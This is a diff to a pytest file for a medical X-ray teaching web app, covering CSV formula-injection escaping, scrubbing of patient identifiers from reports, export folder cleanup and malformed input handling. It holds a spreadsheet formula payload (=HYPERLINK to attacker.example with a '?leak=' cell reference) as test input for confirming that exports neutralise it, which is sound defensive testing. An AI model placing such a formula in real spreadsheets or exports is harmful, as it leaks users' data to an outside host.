@@ -19,11 +19,11 @@ from gradio_client import Client, handle_file
 from medgemma_xray.assistant.spreadsheet import FORMULA_STARTS, text_cell
 from medgemma_xray.phantoms.films import chest_phantom, png_bytes, quantize
 from medgemma_xray.web.export_folders import ExportSpaceFull, new_export_folder
+from medgemma_xray.web.teaching_context import FORM
 
 pytestmark = pytest.mark.slow
 FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the answer")'
 NAME = "Doe_Jane_MRN-1234"
-FORM_FIELDS_BEFORE_NOTES = 23  # the read form's inputs before its notes (web.teaching_context.FORM)
 
 
 def call_escaped(client: Client, url: str, api_name: str, data: list) -> str:
@@ -52,14 +52,14 @@ def revealed(demo_server, tmp_path_factory):
     client.predict(handle_file(str(film)), api_name="/teaching_upload_film")
     notes = FORMULA + " and \ud800 then " + NAME
     stream = call_escaped(
-        client, demo_server.url, "teaching_reveal", [True, *([None] * FORM_FIELDS_BEFORE_NOTES), notes]
+        client, demo_server.url, "teaching_reveal", [True, *([None] * FORM.index("read_notes")), notes, ""]
     )
     assert "event: complete" in stream and "event: error" not in stream, stream[-2000:]
     return client
 
 
 def test_a_formula_in_the_notes_is_text_in_the_session_csv(revealed):
-    csv_file, _ = revealed.predict(api_name="/teaching_export")
+    csv_file, _ = revealed.predict("", api_name="/teaching_export")  # no student name
     rows = list(csv.DictReader(io.StringIO(local(csv_file).read_text(encoding="utf-8"))))
     notes = rows[0]["student_notes"]
     assert notes.startswith("'=HYPERLINK("), notes
@@ -71,10 +71,10 @@ def test_a_formula_in_the_notes_is_text_in_the_session_csv(revealed):
 
 def test_the_report_markdown_and_sr_are_scrubbed_like_the_csv(revealed, demo_server):
     typed = f"Cough; {NAME.replace('_', ' ')} \ud800 asked for a review."
-    stream = call_escaped(revealed, demo_server.url, "teaching_report", [typed, "=1+1", "", False])
+    stream = call_escaped(revealed, demo_server.url, "teaching_report", [typed, "=1+1", "", False, ""])
     assert "event: complete" in stream and "event: error" not in stream, stream[-2000:]
     markdown, sr = revealed.predict(
-        f"Cough; {NAME.replace('_', ' ')} again.", "", "", False, api_name="/teaching_report"
+        f"Cough; {NAME.replace('_', ' ')} again.", "", "", False, "", api_name="/teaching_report"
     )
     text = local(markdown).read_text(encoding="utf-8")
     assert "Cough; [removed] again." in text and "Doe" not in text and "MRN-1234" not in text
@@ -91,7 +91,7 @@ def test_export_folders_past_the_age_limit_are_removed(revealed, demo_server):
     long_ago = time.time() - 7 * 24 * 3600
     for folder in before:
         os.utime(folder, (long_ago, long_ago))
-    revealed.predict(api_name="/teaching_export")
+    revealed.predict("", api_name="/teaching_export")  # no student name
     after = {path for path in cache.iterdir() if path.name.startswith("teaching-session-")}
     assert not (before & after), "an export folder older than CACHE_MAX_AGE_S outlived the next export"
     assert len(after) == 1
@@ -135,3 +135,11 @@ def test_text_cells_follow_owasp():
         assert text_cell(trigger + "1") == "'" + trigger + "1"
     assert text_cell("plain text, = inside") == "plain text, = inside"
     assert text_cell("lone \ud800").encode("utf-8") == "lone \ufffd".encode()
+
+
+@pytest.mark.parametrize("sent", [["wide", "narrow"], ["NaN", "inf"], [40, None]])
+def test_a_window_that_is_not_two_numbers_gets_the_typed_window_notice(revealed, demo_server, sent):
+    """An API client may send anything in the level and width boxes' place: the page's notice and the window as it
+    was, never an internal error."""
+    stream = call_escaped(revealed, demo_server.url, "teaching_window", sent)
+    assert "event: complete" in stream and "event: error" not in stream, stream[-2000:]
